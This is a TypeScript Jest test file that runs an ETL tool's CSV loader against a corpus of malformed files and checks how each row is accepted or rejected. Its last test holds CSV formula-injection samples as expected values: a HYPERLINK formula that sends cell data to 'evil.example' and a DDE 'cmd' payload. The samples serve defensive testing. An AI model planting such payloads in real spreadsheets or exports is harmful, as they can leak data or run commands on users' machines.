import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { parse as parseYaml, stringify as toYaml } from 'yaml';
import { run } from '../../src/cli/main';
import { Capture, TestStack } from '../support/stack';

jest.setTimeout(300_000);

/** The corpus: one file per kind of bad input (test/fixtures/bad-input/README.md says what each holds). */
const FIXTURES = join(__dirname, '../fixtures/bad-input');
const fixture = (name: string) => readFileSync(join(FIXTURES, name));

type Row = Record<string, string | null>;

/** Runs `sfetl load` in process with JSON output; returns the exit code, what it wrote and its events. */
async function load(args: readonly string[], config: string) {
  const out = new Capture();
  const err = new Capture();
  const write = process.stderr.write.bind(process.stderr);
  let code: number;
  process.stderr.write = ((chunk: string | Uint8Array) => err.stream.write(chunk)) as typeof process.stderr.write;
  try {
    code = await run(['load', '--config', config, '--output', 'json', ...args], out.stream);
  } finally {
    process.stderr.write = write;
  }
  return { code, out: out.text, err: err.text, events: out.jsonLines() };
}

/** The first three characters of Ext_Id__c (`Q-3`), which every corpus row starts with, even a raw one. */
const ext = (row: Row) => String(row.Ext_Id__c).slice(0, 3);

describe('sfetl load: the bad-input corpus, end to end against the embedded default', () => {
  let stack: TestStack;

  beforeAll(async () => {
    stack = await TestStack.start();
  });
  afterAll(() => stack?.stop());

  /** Puts a corpus file in the source bucket and loads it into the dev org's Contacts (insert). */
  async function loadFixture(name: string) {
    const key = `bad-input/${name}`;
    const source = await stack.putSource(key, fixture(name));
    const config = parseYaml(readFileSync(stack.config, 'utf8')) as Record<string, any>;
    config.objects = [{ name: 'Contact', source, operation: 'insert', loadOrder: 1 }];
    const path = join(stack.dir, `bad-input-${name}.yaml`);
    writeFileSync(path, toYaml(config));
    const runId = `bad-${name.replace(/\.csv$/, '').replace(/[^A-Za-z0-9]+/g, '-')}`;
    const jobsBefore = await stack.jobCount('dev');
    const result = await load(['--env', 'dev', '--run-id', runId], path);
    return { ...result, source, runId, jobs: (await stack.jobCount('dev')) - jobsBefore };
  }

  /** Contacts in the dev org whose Ext_Id__c starts with `prefix`, with the fields asked for. */
  async function contacts(prefix: string, fields = 'Ext_Id__c'): Promise<Row[]> {
    return (await stack.orgQuery<Row>('dev', `SELECT ${fields} FROM Contact WHERE Ext_Id__c LIKE '${prefix}%'`))
      .records;
  }

  describe('files that cannot be loaded: exit 1 before any job, with the file and the fix named', () => {
    const cases: [string, string][] = [
      ['empty.csv', 'is empty or holds only blank lines; a CSV file starts with a header line of field names'],
      ['blank-lines.csv', 'is empty or holds only blank lines; a CSV file starts with a header line of field names'],
      ['non-utf8-header.csv', 'the header line of {source} is not valid UTF-8; save the file as UTF-8'],
      [
        'utf16le-bom.csv',
        '{source} is UTF-16 (it starts with a UTF-16 byte order mark); save the file as UTF-8 (in Excel: "CSV UTF-8")',
      ],
      [
        'utf16le-no-bom.csv',
        'the header line of {source} contains NUL bytes, so the file is probably UTF-16 or not text; save it as UTF-8',
      ],
      [
        'duplicate-header.csv',
        'columns 2 and 4 of the header line of {source} are both named "lastname" (names are compared ignoring case); rename or remove one of them',
      ],
    ];

    test.each(cases)('%s', async (name, message) => {
      const result = await loadFixture(name);
      expect(result.code).toBe(1);
      expect(result.err).toContain(message.replace('{source}', result.source));
      expect(result.err).toContain(result.source);
      expect(result.err).toMatch(/no job was created: fix the file and run again\n$/);
      expect(result.err.trim().split('\n')).toHaveLength(1);
      expect(result.err).not.toContain('unexpected error');
      expect(result.jobs).toBe(0);
      expect(await stack.logKeys('success/Contact/')).not.toContainEqual(expect.stringContaining(result.runId));
      expect(await stack.logKeys('failure/Contact/')).not.toContainEqual(expect.stringContaining(result.runId));
    });

    test('columns-5001.csv: more columns than a record has fields; the preflight lists ten and counts the rest', async () => {
      const result = await loadFixture('columns-5001.csv');
      expect(result.code).toBe(1);
      const lines = result.err.trim().split('\n');
      expect(lines[0]).toBe(`sfetl load: preflight of Contact (${result.source}) failed, no job was created:`);
      expect(lines.slice(1, 11)).toEqual(
        Array.from(
          { length: 10 },
          (_, i) =>
            `  - column Extra_${String(i + 3).padStart(4, '0')} is not a field of Contact; rename the column or map it with columnMapping`,
        ),
      );
      expect(lines[11]).toBe(
        '  - and 4,989 more column problems (4,999 in all, in a file of 5,001 columns); check that the file is meant for Contact, fix the columns and run again',
      );
      expect(lines[12]).toBe('fix the file or the configuration and run again');
      expect(lines).toHaveLength(13);
      expect(result.jobs).toBe(0);
    });
  });

  interface Expected {
    /** What every Ext_Id__c of the file starts with. */
    readonly prefix: string;
    /** Exit code: 0, or 2 when the failed rows are over the default 5% threshold. */
    readonly code: number;
    /** Ext ids (3 characters) of the rows that must be in the org and the success log. */
    readonly loaded: readonly string[];
    /** Ext id → error code and, for rows rejected before upload, the source line the error must name. */
    readonly failed: Readonly<Record<string, readonly [string, number?]>>;
  }

  const perRow: [string, Expected][] = [
    [
      'unbalanced-quote.csv',
      {
        prefix: 'Q-',
        code: 2,
        loaded: ['Q-1', 'Q-2', 'Q-5'],
        failed: {
          'Q-3': ['SFETL_MALFORMED_QUOTES', 5],
          'Q-4': ['SFETL_MALFORMED_QUOTES', 6],
          'Q-6': ['SFETL_MALFORMED_FILE', 8],
          'Q-7': ['SFETL_MALFORMED_FILE', 9],
        },
      },
    ],
    [
      'ragged-rows.csv',
      {
        prefix: 'R-',
        code: 2,
        loaded: ['R-1', 'R-4'],
        failed: {
          'R-2': ['SFETL_COLUMN_COUNT', 3],
          'R-3': ['SFETL_COLUMN_COUNT', 4],
          'R-5': ['SFETL_COLUMN_COUNT', 6],
          'R-6': ['SFETL_COLUMN_COUNT', 7],
        },
      },
    ],
    [
      'non-utf8-rows.csv',
      {
        prefix: 'U-',
        code: 2,
        loaded: ['U-1', 'U-4'],
        failed: {
          'U-2': ['SFETL_INVALID_UTF8', 3],
          'U-3': ['SFETL_INVALID_UTF8', 4],
          'U-5': ['SFETL_INVALID_UTF8', 6],
        },
      },
    ],
    ['bom.csv', { prefix: 'B-', code: 0, loaded: ['B-1', 'B-2'], failed: {} }],
    [
      'mixed-line-endings.csv',
      {
        prefix: 'M-',
        code: 2,
        loaded: ['M-1', 'M-2', 'M-3', 'M-4', 'M-7'],
        failed: { 'M-5': ['SFETL_MALFORMED_QUOTES', 10] },
      },
    ],
    ['header-only.csv', { prefix: 'H-', code: 0, loaded: [], failed: {} }],
    [
      'field-32001.csv',
      { prefix: 'F-', code: 2, loaded: ['F-1', 'F-3', 'F-4'], failed: { 'F-2': ['SFETL_FIELD_TOO_LONG', 3] } },
    ],
    [
      'nul-bytes.csv',
      {
        prefix: 'N-',
        code: 2,
        loaded: ['N-1', 'N-4'],
        failed: { 'N-2': ['SFETL_NUL_BYTE', 3], 'N-3': ['SFETL_NUL_BYTE', 4] },
      },
    ],
    [
      'formulas.csv',
      {
        prefix: 'X-',
        code: 2,
        loaded: ['X-1', 'X-2', 'X-3', 'X-4'],
        failed: { 'X-5': ['INVALID_EMAIL_ADDRESS'], 'X-6': ['SFETL_COLUMN_COUNT', 7] },
      },
    ],
  ];

  /** What every per-row case shares: exit code, accounting, the org, the logs, the failure codes and lines. */
  const loaded = new Map<string, { success: Row[]; failure: Row[]; source: string }>();

  test.each(perRow)('%s: per-row outcomes, every row accounted for', async (name, expected) => {
    const result = await loadFixture(name);
    expect(result.err).not.toContain('unexpected error');
    expect(result.code).toBe(expected.code);
    if (expected.code === 2) {
      expect(result.err).toMatch(
        name === 'unbalanced-quote.csv'
          ? /of the rows failed \(threshold 5\.00%\); s3:\/\/\S+\/unbalanced-quote\.csv: a quote opened on line 8 in column 3 "Description" is never closed, so the file cannot be read from there: lines 8–9 \(2 lines\) were not loaded and are failure rows \(SFETL_MALFORMED_FILE\); fix the quote, then load the corrected file with --skip-loaded-rows \(rows already loaded are skipped\); read the failure log/
          : /of the rows failed \(threshold 5\.00%\); read the failure log/,
      );
    } else {
      expect(result.err).toBe('');
    }

    const summary = result.events.find((e) => e.event === 'summary') as Record<string, any>;
    const [object] = summary.objects;
    const rows = expected.loaded.length + Object.keys(expected.failed).length;
    expect([summary.rowsRead, summary.success, summary.failure]).toEqual([
      rows,
      expected.loaded.length,
      Object.keys(expected.failed).length,
    ]);
    expect(summary.rowsRead).toBe(summary.success + summary.failure);

    const location = (status: string) => object.logs.find((l: string) => l.includes(`/${status}/`));
    const success = location('success') ? await stack.readParquet(location('success')) : [];
    const failure = location('failure') ? await stack.readParquet(location('failure')) : [];
    expect(success.length + failure.length).toBe(summary.rowsRead);
    expect(success.map(ext).sort()).toEqual([...expected.loaded].sort());
    expect((await contacts(expected.prefix)).map(ext).sort()).toEqual([...expected.loaded].sort());

    const failures = Object.fromEntries(failure.map((r) => [ext(r), r]));
    expect(Object.keys(failures).sort()).toEqual(Object.keys(expected.failed).sort());
    for (const [id, [code, line]] of Object.entries(expected.failed)) {
      const row = failures[id]!;
      expect(row.sf__Error!.split(':')[0]).toBe(code);
      if (line === undefined) {
        expect(row.sf__JobId).toMatch(/^750/);
      } else {
        // Rejected before upload: no job, and the error names the file and the line.
        expect(row.sf__JobId).toBe('');
        expect(row.sf__Error).toContain(`(${result.source} line ${line})`);
        expect(row.sf__Error).toMatch(/:--$/);
      }
    }
    if (rows === 0) expect(result.jobs).toBe(0);
    loaded.set(name, { success, failure, source: result.source });
  });

  // Details of the corpus, on the logs and records loaded above.
  const logs = (name: string) => {
    const l = loaded.get(name);
    if (!l) throw new Error(`${name} was not loaded: its test above failed`);
    return l;
  };
  const byExt = (rows: Row[]) => Object.fromEntries(rows.map((r) => [ext(r), r]));

  test('unbalanced quotes: each message says what is wrong and where; a closed quoted line break loads', async () => {
    const { failure, source } = logs('unbalanced-quote.csv');
    const f = byExt(failure);
    expect(f['Q-3']!.sf__Error).toContain(`quote inside the unquoted value of column 2 "LastName" (${source} line 5)`);
    expect(f['Q-4']!.sf__Error).toContain(`text after the closing quote of column 2 "LastName" (${source} line 6)`);
    expect(f['Q-6']!.sf__Error).toContain(
      `line not loaded: the file cannot be read from line 8, where a quote opens in column 3 "Description" that is never closed before the end of the file (${source} line 8)`,
    );
    // The line the open quote would swallow is not lost: it is a failure row of its own, its text kept.
    expect(f['Q-7']!.sf__Error).toContain(`cannot be read from line 8, where a quote opens`);
    expect(f['Q-7']!.Ext_Id__c).toBe('Q-7,Lim,read as part of the value above');
    const [q2] = await contacts('Q-2', 'Ext_Id__c, Description');
    expect(q2!.Description).toBe('a quoted value\nover two lines');
  });

  test('ragged rows: too many and too few values, with the surplus values kept in the error', async () => {
    const f = byExt(logs('ragged-rows.csv').failure);
    expect(f['R-2']!.sf__Error).toContain('row has 2 values but the header has 3 columns');
    expect(f['R-3']!.sf__Error).toContain('row has 4 values but the header has 3 columns');
    expect(f['R-3']!.sf__Error).toContain('(values past the last column: surplus)');
    expect(f['R-5']!.sf__Error).toContain('row has 1 value but the header has 3 columns');
    expect(f['R-6']!.sf__Error).toContain('row has 4 values but the header has 3 columns');
    expect(f['R-3']).toMatchObject({ Ext_Id__c: 'R-3', LastName: 'Kim', Email: 'kim@example.com' });
  });

  test('non-UTF-8 rows: logged with the bad bytes shown as U+FFFD; valid UTF-8 next to them loads', async () => {
    const f = byExt(logs('non-utf8-rows.csv').failure);
    expect(f['U-2']!.LastName).toBe('M\uFFFDller');
    expect(f['U-2']!.sf__Error).toContain('save the file as UTF-8');
    const [u4] = await contacts('U-4', 'Ext_Id__c, LastName, Description');
    expect(u4).toMatchObject({ LastName: 'Dvořák', Description: 'valid UTF-8 日本' });
  });

  test('BOM: dropped, so the first column is Ext_Id__c in the org and in the log', async () => {
    const { success } = logs('bom.csv');
    expect(Object.keys(success[0]!)[0]).toBe('Ext_Id__c');
    const records = await contacts('B-', 'Ext_Id__c, FirstName');
    expect(records.map((r) => [r.Ext_Id__c, r.FirstName]).sort()).toEqual([
      ['B-1', 'Åsa'],
      ['B-2', 'Zoë'],
    ]);
  });

  test('mixed line endings: CRLF and LF both end rows, quoted line breaks stay as written, a bare CR is refused', async () => {
    const { failure, source } = logs('mixed-line-endings.csv');
    const records = byExt(await contacts('M-', 'Ext_Id__c, Description'));
    expect(records['M-2']!.Description).toBe('crlf');
    expect(records['M-3']!.Description).toBe('quoted crlf\r\nstays');
    expect(records['M-4']!.Description).toBe('quoted lf\nstays');
    expect(records['M-7']!.Description).toBe('no line break at the end');
    const m5 = byExt(failure)['M-5']!;
    expect(m5.sf__Error).toContain(`carriage return outside quotes in column 3 "Description" (${source} line 10)`);
    expect(m5.Ext_Id__c).toBe('M-5,Cho,bare cr\rM-6,Lim,old mac ending');
  });

  test('field-32001: 32,000 characters load (3-byte ones too), 32,001 are refused before upload', async () => {
    const { failure } = logs('field-32001.csv');
    expect(byExt(failure)['F-2']!.sf__Error).toContain(
      'value of column 3 "Description" has 32,001 characters, Salesforce accepts at most 32,000',
    );
    expect(byExt(failure)['F-2']!.Description).toHaveLength(32_001);
    const records = byExt(await contacts('F-', 'Ext_Id__c, Description'));
    expect(records['F-1']!.Description).toBe('x'.repeat(32_000));
    expect(records['F-3']!.Description).toBe('€'.repeat(32_000));
    expect(records['F-4']!.Description).toBe(`${'y'.repeat(31_999)}"`);
  });

  test('NUL bytes: the row is refused as SFETL_NUL_BYTE, naming the column; its values are logged as they were', async () => {
    const { failure, source } = logs('nul-bytes.csv');
    const f = byExt(failure);
    expect(f['N-2']!.sf__Error).toContain(`row contains a NUL byte in column 2 "LastName" (${source} line 3)`);
    expect(f['N-2']!.LastName).toBe('Lee\u0000');
    expect(f['N-3']!.Description).toBe('nul \u0000 in a quoted value');
  });

  test('formula-looking values arrive in the org and in the logs exactly as written', async () => {
    const { success, failure } = logs('formulas.csv');
    const written = parse(fixture('formulas.csv'), { columns: true, relax_column_count: true }) as Row[];
    const fields = ['Ext_Id__c', 'FirstName', 'LastName', 'Title', 'Description'] as const;
    const expected = Object.fromEntries(written.map((r) => [r.Ext_Id__c, r]));
    const pick = (r: Row) => Object.fromEntries(fields.map((f) => [f, r[f]]));

    const records = await contacts('X-', fields.join(', '));
    expect(records.map(pick).sort((a, b) => a.Ext_Id__c!.localeCompare(b.Ext_Id__c!))).toEqual(
      ['X-1', 'X-2', 'X-3', 'X-4'].map((id) => pick(expected[id]!)),
    );
    for (const row of success) expect(pick(row)).toEqual(pick(expected[row.Ext_Id__c!]!));
    // Failed rows keep them too: one refused by Salesforce, one refused before upload.
    for (const row of failure) expect(pick(row)).toEqual(pick(expected[row.Ext_Id__c!]!));
    // Spelled out, so that a parser that altered them in the same way on both sides could not hide it.
    expect(byExt(success)['X-1']).toMatchObject({
      FirstName: '=1+1',
      LastName: '=HYPERLINK("http://evil.example/?q="&A1,"click")',
      Title: '+1',
      Description: '-2',
    });
    expect(byExt(success)['X-2']).toMatchObject({ FirstName: '@SUM(A1)', LastName: "=cmd|' /C calc'!A0" });
    expect(byExt(success)['X-3']).toMatchObject({ FirstName: "'=quoted", Description: '\t=tab first' });
    expect(byExt(success)['X-4']).toMatchObject({ Description: '\r=cr first' });
    expect(byExt(failure)['X-6']).toMatchObject({ FirstName: '-2', LastName: '=SUM(A1:A9)', Title: '@x' });
  });
});
